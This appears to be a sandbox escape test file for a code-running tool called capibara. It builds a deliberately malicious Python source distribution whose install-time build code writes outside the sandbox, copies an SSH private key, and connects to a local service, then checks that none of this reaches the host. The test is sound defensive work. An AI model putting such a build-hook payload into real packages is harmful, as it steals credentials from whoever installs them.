/**
 * The escape suite, dependency installs: a pinned requirement served only as a source
 * distribution whose build writes outside, reads ~/.ssh and connects out, built in the sandbox,
 * and never on the host by `capibara show`'s run-by-hand steps (see _escape.ts).
 */
import assert from "node:assert/strict";
import { basename, join } from "node:path";
import { sha256 } from "../../src/_hash.ts";
import { manualCommand } from "../../src/readme.ts";
import { buildSdist } from "../helpers/wheel.ts";
import {
  attack,
  escapeSuite,
  exists,
  HOME,
  OTHER,
  py,
  ROOT,
  SERVICE_PORT,
  serviceHits,
  SSH_KEY,
} from "./_escape.ts";

// --- dependency installs: a pinned requirement served only as a source distribution ----------
// Its build backend runs during `pip install`. With source builds allowed (a trusted config), it
// runs in the sandbox: it must write nothing outside, read no key, reach no host service. The
// project is a folder of its own, so that its config grants nothing to the attacks above.
/** The host service's count before an attack. */
let hitsBefore = 0;
const BUILD_PROJECT = join(ROOT, "build-project");
const BUILD_PLANT = join(OTHER, "planted-by-build.txt");
const BUILD_EXFIL = join(OTHER, "key-from-build.txt");
await Deno.mkdir(join(BUILD_PROJECT, ".capibara"), { recursive: true });
await Deno.writeTextFile(
  join(BUILD_PROJECT, ".capibara", "config.json"),
  JSON.stringify({ install: { source_builds: true } }),
);
const evilSdist = await buildSdist(join(ROOT, "dist"), {
  name: "capibara-escape-build",
  version: "1.0.0",
  module: { "capibara_escape_build.py": "VALUE = 1\n" },
  buildCode: `
import os, socket
for action in (
    lambda: open(${JSON.stringify(BUILD_PLANT)}, "w").write("planted"),
    lambda: open(${JSON.stringify(BUILD_EXFIL)}, "w").write(open(${
    JSON.stringify(SSH_KEY)
  }).read()),
    lambda: socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"),
):
    try:
        action()
    except Exception:
        pass
`,
});
const sdistBytes = await Deno.readFile(evilSdist);
const indexPage = `<!DOCTYPE html><html><body><a href="/files/${
  basename(evilSdist)
}#sha256=${await sha256(
  sdistBytes,
)}">${basename(evilSdist)}</a></body></html>`;
const packageIndex = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
  const path = new URL(request.url).pathname;
  if (/^\/simple\/capibara-escape-build\/?$/.test(path)) {
    return new Response(indexPage, { headers: { "content-type": "text/html" } });
  }
  if (path === `/files/${basename(evilSdist)}`) return new Response(sdistBytes);
  return new Response("not found", { status: 404 });
});
globalThis.addEventListener("unload", () => void packageIndex.shutdown());
attack({
  name: "a requirement's source build writes outside, reads ~/.ssh and connects out",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME,
      CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
    },
  },
  timeout: 120,
  leaks: ["hunter2"],
  // The build ran (the script imports what it built): only the sandbox stopped it.
  granted: (o) => assert.equal(o.detail, "installed"),
  before: () => Promise.resolve(void (hitsBefore = serviceHits)),
  async hostUnchanged() {
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build read the key");
    assert.equal(serviceHits, hitsBefore, "the build reached the host service");
  },
});

// `capibara show` prints how to run an entry by hand, outside the sandbox: its install step takes
// wheels only, so the same source distribution's build never runs on the host.
attack({
  name: "capibara show's run-by-hand steps install a requirement's source build",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME,
      CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
    },
  },
  timeout: 120,
  async via(cb, prompt) {
    const result = await cb.run(prompt, { context: {}, language: "python" });
    const manifest = JSON.parse(
      await Deno.readTextFile(
        join(BUILD_PROJECT, ".capibara", "scripts", result.fingerprint, "manifest.json"),
      ),
    );
    await new Deno.Command("sh", {
      args: ["-c", manualCommand(manifest)],
      cwd: BUILD_PROJECT,
      env: {
        PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
        HOME,
        PIP_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
        PIP_DISABLE_PIP_VERSION_CHECK: "1",
      },
      clearEnv: true,
      stdout: "null",
      stderr: "null",
    }).output();
    return { breached: false, detail: "ran by hand" };
  },
  async hostUnchanged() {
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build ran on the host: it wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build ran on the host: it read the key");
  },
});

Deno.test(escapeSuite("dependency installs", { atLeast: { sandbox: 2, noSandbox: 0 } }));
